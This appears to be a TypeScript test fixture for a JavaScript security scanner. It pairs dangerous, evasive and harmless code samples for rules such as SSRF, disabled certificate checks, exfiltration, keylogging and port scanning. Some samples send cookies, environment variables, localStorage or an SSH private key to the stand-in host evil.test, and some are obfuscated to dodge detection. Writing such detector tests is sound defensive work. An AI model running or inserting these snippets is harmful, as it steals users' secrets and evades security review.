import type { RuleSample } from './rule-sample.fixture.ts'

export const networkSamples: RuleSample[] = [
  {
    rule: 'javascript/ssrf',
    dangers: [
      [
        'app.get("/proxy", async (req, res) => { const r = await fetch(req.query.url); res.json({ ok: r.ok }) })',
        'fetch(req.query.url)',
      ],
      [
        'const axios = require("axios"); app.post("/hook", (req, res) => axios.get(`http://${req.body.host}/status`).then(() => res.end()))',
        'axios.get(',
      ],
      [
        'const http = require("http"); app.get("/", (req, res) => { http.get(req.query.u, r => r.resume()) })',
        'http.get(',
      ],
      [
        'const request = require("request"); app.get("/", (req, res) => request({ url: req.query.target }, () => {}))',
        'request({',
      ],
    ],
    evasions: [
      [
        'import got from "got"\napp.get("/", async ({ query }, res) => { const target = String(query.t); await got(target) })',
        'got(target)',
      ],
    ],
    harmless: [
      'app.get("/u", async (req, res) => { const r = await fetch(`https://api.test/users/${encodeURIComponent(req.query.id)}`); res.json({ ok: r.ok }) })',
      'async function load(url) { const r = await fetch(url); return r.json() }',
      'app.get("/u", async (req, res) => { await fetch("https://api.test/users/" + req.params.id) })',
    ],
  },
  {
    rule: 'javascript/certificate-check-off',
    dangers: [
      [
        'const https = require("https"); const agent = new https.Agent({ rejectUnauthorized: false })',
        'rejectUnauthorized: false',
      ],
      [
        'require("request")({ url: "https://a.test", strictSSL: false, auth: { user: "a", pass: p } })',
        'strictSSL: false',
      ],
    ],
    evasions: [
      ['const off = !1; new (require("https").Agent)({ "rejectUnauthorized": off })', '"rejectUnauthorized": off'],
    ],
    harmless: ['const https = require("https"); new https.Agent({ rejectUnauthorized: true, ca })'],
  },
  {
    rule: 'javascript/all-certificate-checks-off',
    dangers: [['process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"', 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"']],
    evasions: [['process.env["NODE_TLS_" + "REJECT_UNAUTHORIZED"] = 0', 'process.env[']],
    harmless: ['process.env.NODE_ENV = "test"', 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "1"'],
  },
  {
    rule: 'javascript/old-tls',
    dangers: [
      ['require("tls").createServer({ secureProtocol: "SSLv3_method" })', '"SSLv3_method"'],
      ['require("https").createServer({ minVersion: "TLSv1" })', '"TLSv1"'],
    ],
    evasions: [['const v = "TLS" + "v1"; require("tls").connect({ ["minVersion"]: v })', 'v']],
    harmless: ['require("https").createServer({ minVersion: "TLSv1.2" })'],
  },
  {
    rule: 'javascript/network-use',
    dangers: [['await fetch("https://api.test")', 'fetch("https://api.test")']],
    evasions: [['const h = require("http" + "s"); h["g" + "et"]("https://a.test")', 'h["g" + "et"]']],
    harmless: ['const fetch = (x) => x; fetch("a")'],
  },
  {
    rule: 'javascript/listen-everywhere',
    dangers: [['server.listen(80, "0.0.0.0")', 'server.listen(80, "0.0.0.0")']],
    evasions: [['const all = [0, 0, 0, 0].join("."); server["listen"](80, all)', 'server["listen"]']],
    harmless: ['server.listen(3000)'],
  },
  {
    rule: 'javascript/cleartext-credentials',
    dangers: [['fetch("http://admin:hunter2@host.test/")', '"http://admin:hunter2@host.test/"']],
    evasions: [['fetch(`http://${"admin"}:pw@host.test`)', '`http://']],
    harmless: ['fetch("http://host.test/a:b@c")'],
  },
  {
    rule: 'javascript/exfiltration',
    dangers: [
      ['fetch("https://evil.test/c?d=" + document.cookie)', 'fetch('],
      ['new Image().src = "https://evil.test/?c=" + encodeURI(document.cookie) + document.cookie', 'new Image().src ='],
      [
        'const https = require("https"); const data = JSON.stringify(process.env); const r = https.request({ hostname: "evil.test", method: "POST" }); r.write(data); r.end()',
        'r.write(data)',
      ],
      [
        'const fs = require("fs"); const key = fs.readFileSync("/home/deploy/.ssh/id_rsa", "utf8"); require("axios").post("https://evil.test", { key })',
        'require("axios").post',
      ],
      ['const os = require("os"); fetch(`https://evil.test/${os.hostname()}/${os.userInfo().username}`)', 'fetch('],
      ['navigator.sendBeacon("https://evil.test", document.cookie)', 'navigator.sendBeacon('],
      ['fetch("https://evil.test", { method: "POST", body: JSON.stringify(localStorage) })', 'fetch('],
      [
        'const dns = require("dns"); const d = Buffer.from(JSON.stringify(process.env)).toString("hex"); dns.lookup(d + ".evil.test", () => {})',
        'dns.lookup(',
      ],
    ],
    evasions: [
      [
        'const e = process["en" + "v"]; const all = { ...e }; fetch("https://evil.test", { method: "POST", body: JSON.stringify(all) })',
        'fetch(',
      ],
      [
        'const x = new XMLHttpRequest(); x.open("POST", "https://evil.test"); x.send(btoa(document["coo" + "kie"]))',
        'x.send(',
      ],
    ],
    harmless: [
      'fetch("https://api.test/v1", { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } })',
      'const { spawn } = require("child_process"); spawn("node", ["a.js"], { env: { ...process.env, A: "1" } })',
      'const fs = require("fs"); const body = fs.readFileSync("report.json"); fetch("https://api.test/upload", { method: "POST", body })',
      'fetch("/api/profile", { method: "POST", body: JSON.stringify({ theme: localStorage.getItem("theme") }) })',
    ],
  },
  {
    rule: 'javascript/keylogger',
    dangers: [
      [
        'let keys = ""; document.addEventListener("keydown", e => { keys += e.key }); setInterval(() => { fetch("https://evil.test", { method: "POST", body: keys }) }, 5000)',
        'fetch(',
      ],
      ['const hook = require("iohook"); hook.on("keydown", e => log.push(e)); hook.start()', 'hook.on('],
    ],
    evasions: [
      [
        'const b = []; window["addEvent" + "Listener"]("key" + "press", function (v) { b.push(v.key); new Image().src = "https://e.test/?k=" + b.join("") })',
        'new Image().src',
      ],
    ],
    harmless: [
      'document.addEventListener("keydown", (e) => { if (e.key === "Enter") fetch("/search?q=1") })',
      'field.addEventListener("keyup", (e) => fetch("https://api.test/search?q=" + encodeURIComponent(e.target.value)))',
      'const socket = new WebSocket("wss://game.test"); document.addEventListener("keydown", (e) => socket.send(e.key))',
    ],
  },
  {
    rule: 'javascript/catching-host',
    dangers: [['fetch("https://webhook.site/abc")', '"https://webhook.site/abc"']],
    evasions: [['fetch(`https://${"webhook"}.site/x`)', '`https://']],
    harmless: ['fetch("https://api.github.com/repos")'],
  },
  {
    rule: 'javascript/chat-webhook',
    dangers: [['fetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: "done" })', 'fetch(']],
    evasions: [
      [
        'const h = "disc" + "ord.com/api/web" + "hooks/1/x"; require("axios").post("https://" + h, { content: "a" })',
        'require("axios").post',
      ],
    ],
    harmless: ['fetch("https://discord.com/api/v10/users/1")'],
  },
  {
    rule: 'javascript/cloud-metadata',
    dangers: [
      ['fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")', '"http://169.254.169.254'],
    ],
    evasions: [['fetch(`http://${[169, 254, 169, 254].join(".")}/latest`)', '`http://']],
    harmless: ['fetch("http://169.254.1.1/")'],
  },
  {
    rule: 'javascript/port-scan',
    dangers: [
      [
        'const net = require("net"); for (let port = 1; port < 65536; port++) { const s = new net.Socket(); s.connect(port, host) }',
        'new net.Socket()',
      ],
    ],
    evasions: [
      [
        'const n = require("node:net"); function probe(p) { n.createConnection(p, "10.0.0.1") }\nfor (let port = 1; port < 1024; port += 1) probe(port)',
        'n.createConnection(',
      ],
    ],
    harmless: ['const net = require("net"); const s = net.connect(6379, "localhost"); s.end()'],
  },
]
